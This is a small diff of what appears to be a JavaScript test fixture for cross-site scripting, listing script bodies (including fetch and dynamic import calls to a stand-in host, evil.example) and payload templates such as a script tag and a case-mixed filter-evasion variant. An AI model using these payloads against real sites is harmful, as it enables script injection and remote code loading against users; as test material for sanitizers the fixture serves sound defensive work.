@@ -1,7 +1,6 @@
 /** What would show that a script ran: each calls out, or leaves its mark on the page. */
 const CODES = ['alert(1)', 'ran=1', 'top.ran=1', 'fetch(`//evil.example`)', "eval('ran=1')", 'import(`//evil.example/x.js`)'];
 
-/** Markup that runs `code` where it is taken for markup. */
 const MARKUP = [
   '<script>CODE</script>',
   '<ScRiPt >CODE</sCrIpT\n>',
